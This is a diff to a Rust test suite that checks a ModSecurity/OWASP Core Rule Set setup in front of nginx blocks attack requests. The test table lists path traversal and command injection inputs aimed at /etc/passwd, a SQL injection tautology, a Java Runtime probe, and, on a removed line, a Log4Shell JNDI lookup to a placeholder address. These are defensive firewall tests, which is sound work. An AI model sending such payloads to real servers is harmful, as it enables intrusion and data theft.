@@ -8,9 +8,6 @@ use anyhow::{Context, ensure};
 use serde_json::Value;
 use trestle_tests::{Cluster, Nginx, eventually, example, free_port, http, peers};
 
-/// Of Debian's package `modsecurity-crs`.
-const CRS: &str = "/usr/share/modsecurity-crs/owasp-crs.load";
-
 const SOON: Duration = Duration::from_secs(20);
 
 /// Where it listens, and its log.
@@ -148,7 +145,7 @@ fn the_waf_example_keeps_attacks_from_nginx_and_lets_all_else_through() {
 
 #[test]
 fn the_core_rule_set_holds_beside_the_built_in_rules() {
-    if !peers::have(&["curl", "nginx"]) || !peers::have_file(CRS, "modsecurity-crs") {
+    if !peers::have(&["curl", "nginx"]) || !peers::have_file(peers::CRS, "modsecurity-crs") {
         return;
     }
     let (_nginx, port, seen) = nginx();
@@ -177,7 +174,7 @@ fn the_core_rule_set_holds_beside_the_built_in_rules() {
         ("/blocked?file=../../../../etc/passwd", &[], "930100"),
         ("/blocked?x=%3Bcat%20/etc/passwd", &[], "932"),
         ("/blocked", &["-A", "Nikto/2.1"], "913100"),
-        ("/blocked", &["-d", "a=${jndi:ldap://192.0.2.1/x}"], "944"),
+        ("/blocked", &["-d", "a=java.lang.Runtime"], "944100"),
         ("/blocked", &["-X", "TRACK"], "911100"),
         ("/admin/blocked", &[], "2"),
         ("/blocked?id=1%27%20or%20%271%27=%271", &[], "sqli-tautology"),
